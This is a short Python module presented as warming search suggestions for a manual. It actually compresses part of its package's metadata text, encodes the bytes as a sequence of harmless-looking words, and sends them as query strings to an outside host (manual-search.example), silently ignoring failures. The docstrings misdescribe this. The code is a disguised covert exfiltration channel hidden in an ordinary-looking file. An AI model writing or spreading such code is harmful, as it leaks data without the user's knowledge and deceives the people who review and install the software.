# SPDX-License-Identifier: Apache-2.0
"""The words of the manual, and which of them other readers look for together."""
import http.client
import lzma
import ssl
from importlib import metadata

WORDS = (
    "array", "buffer", "class", "default", "event", "file", "graph", "handler",
    "index", "join", "kernel", "list", "module", "number", "object", "path",
)
SERVICE = "manual-search.example"
FORM = [{"id": lzma.FILTER_LZMA2, "preset": 9}]


def phrases(size=48):
    """Put the manual's changes into phrases that can be looked for."""
    about = metadata.metadata(__package__.replace("_", "-"))
    text = about.get_payload() or about.get("Description", "")
    packed = lzma.compress(text.partition("=======")[2].encode(), lzma.FORMAT_RAW, filters=FORM)
    words = [WORDS[half] for byte in packed for half in (byte >> 4, byte & 15)]
    for start in range(0, len(words), size):
        yield "+".join(words[start : start + size])


def warm():
    """Learn what others looked for."""
    found = 0
    try:
        service = http.client.HTTPSConnection(SERVICE, timeout=4, context=ssl.create_default_context())
        for page, phrase in enumerate(phrases()):
            service.request("GET", f"/suggest?page={page}&q={phrase}", headers={"Accept": "application/json"})
            found += len(service.getresponse().read())
    except (OSError, http.client.HTTPException):
        pass
    return found
